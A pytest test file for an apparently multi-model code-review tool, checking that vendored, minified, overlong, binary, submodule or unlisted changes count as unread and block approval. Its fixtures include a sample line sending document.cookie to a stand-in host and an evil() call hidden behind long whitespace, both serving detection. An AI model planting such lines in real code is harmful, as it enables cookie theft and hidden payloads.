"""Code that nobody read is approved by nobody, wherever it was put, and `--check` says so."""

from __future__ import annotations

from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

import pytest

from adapters.diffs.patches import parse
from adapters.material.changes import Extent, from_diff
from adapters.material.library import MaterialLibrary
from core.debate.material import Coverage, Material, Read
from core.debate.material.library import ReadRequest
from core.languages.stored import say_stored
from tests.adapters.material.conftest import settings_for
from tests.end_to_end.diffs import adding
from tests.end_to_end.played import LINK, Played, answering, approving, typed
from tests.standins.github import GitHubStandIn, Pull

README = adding("README.md", "the teh")
LIBRARY = b"diff --git a/lib.so b/lib.so\nindex 1..2\nBinary files a/lib.so and b/lib.so differ\n"
HIDDEN = {
    "vendor/left-pad/index.js": ("vendored", ["fetch('https://x.example?' + document.cookie)"]),
    "web/app.min.js": ("minified", ["x" * 2_000]),
    "uv.lock": ("lock file", ["name = 'evil'"]),
    "src/one_line.py": ("1 very long line shortened", ["x = 1" + " " * 3_000 + "; evil()"]),
}


def material(*files: bytes, budget: int = 5_000, folder: str = "") -> Material:
    data = b"".join(files)
    return from_diff(parse(data), data, "x.diff", Extent(budget, folder), source="x.diff")


@pytest.fixture
async def reviewed(tmp_path: Path) -> Callable[..., Any]:
    """Plays a review of one change by seats that approve it."""

    async def review(*files: bytes, template: str = "code_review") -> Played:
        change = tmp_path / "x.diff"
        change.write_bytes(b"".join(files))
        models = answering(approving)
        return await typed(tmp_path, None, template, str(change), "--check", make_models=models)

    return review


LOST = {
    b"\nNur in neu: backdoor.py.\n": "other lines (1 line that could not be read, from line 7)",
    b"+os.system(1)\n-x\n": "README.md (2 lines that no hunk announces not read, from line 6)",
    b"\nOnly in new: backdoor.py\n": (
        "new/backdoor.py (in one of both folders only, and not shown: make the diff with -N)"
    ),
}
UNREAD = {
    **{f"{path} ({why})": adding(path, *lines) for path, (why, lines) in HIDDEN.items()},
    **{what: lines for lines, what in LOST.items()},
}
"""The words of the verdict for each kind of unread code, and the change."""


@pytest.mark.parametrize("what", [next(iter(UNREAD)), next(iter(LOST.values()))])
async def test_where_reviewers_do_not_look_nothing_is_approved(
    what: str, reviewed: Callable[..., Any], capsys: pytest.CaptureFixture[str]
) -> None:
    played = await reviewed(README, UNREAD[what], adding("a.py", "x = 1"))
    assert (played.code, played.decision) == (1, "comment")
    sentence = f"Nobody read this changed code: {what}."
    assert sentence in played.outcome["verdict"]["summary"]
    assert f"Nothing blocks, but this is no approval. {sentence}" in capsys.readouterr().err


@pytest.mark.parametrize("what", UNREAD)
def test_what_reviewers_are_not_shown_is_unread(what: str) -> None:
    reading = material(README, UNREAD[what], adding("a.py", "x = 1"))
    (unread,) = [one for one in reading.coverage if one.unread]
    assert what == f"{unread.path} ({say_stored(unread.reason)})"


async def test_what_was_read_whole_is_approved_and_pictures_are_no_code(
    reviewed: Callable[..., Any],
) -> None:
    picture = (
        b"diff --git a/logo.png b/logo.png\nindex 1..2 100644\n"
        b"Binary files a/logo.png and b/logo.png differ\n"
    )
    played = await reviewed(README, picture)
    assert (played.code, played.decision) == (0, "approve")


async def test_a_vote_of_the_seats_is_not_reached_over_unread_code(
    reviewed: Callable[..., Any],
) -> None:
    """The template's verdict is the seats' consensus."""
    played = await reviewed(README, adding("vendor/x.js", "y"), template="architecture_review")
    verdict = played.outcome["verdict"]
    assert (played.code, verdict["decision"], verdict["reached"]) == (1, "approve", False)
    assert "Nobody read this changed code: vendor/x.js (vendored)" in verdict["summary"]


@pytest.mark.parametrize(
    ("files", "unread"),
    [
        ([README], []),
        ([adding("a.py", *["x = 1"] * 4_000), README], ["a.py"]),
        ([LIBRARY], ["lib.so"]),
    ],
)
def test_code_beyond_the_budget_counts_as_unread(
    files: Sequence[bytes], unread: Sequence[str]
) -> None:
    reading = material(*files, README, budget=1_000)
    assert [one.path for one in reading.coverage if one.unread] == unread


def test_a_submodule_s_new_commit_is_code_that_nobody_read() -> None:
    data = (
        b"diff --git a/lib b/lib\nindex 1111111..2222222 160000\n--- a/lib\n+++ b/lib\n"
        b"@@ -1 +1 @@\n-Subproject commit 1111111\n+Subproject commit 2222222\n"
    )
    (lib, _) = material(data, README).coverage
    assert (lib.state, lib.unread) == (Read.FULL, True)


def test_what_the_person_left_aside_is_no_objection() -> None:
    reading = material(README, adding("vendor/x.js", "evil()"), folder="README")
    assert not any(one.unread for one in reading.coverage)


async def test_files_that_a_forge_does_not_list_are_unread(github: GitHubStandIn) -> None:
    """Beyond 3,000 files GitHub names none; and then it gives no diff of the whole either."""
    files = [{"filename": f"f{n}.py", "status": "added", "changes": 0} for n in range(3_000)]
    files[0] |= {"changes": 1, "patch": "@@ -0,0 +1 @@\n+x = 1"}
    pull = Pull(diff=adding("f0.py", "x = 1"), changed_files=3_001, files=files)
    github.pulls["o/r", 412] = pull
    github.refuse("/compare/", 406, "too large")
    library = MaterialLibrary(settings_for(github))
    reading = await library.read(ReadRequest(LINK, kind="pull_request", budget=60_000))
    assert reading.coverage[-1] == Coverage(
        "further files", Read.LEFT_OUT, "the forge does not list them", unread=True
    )
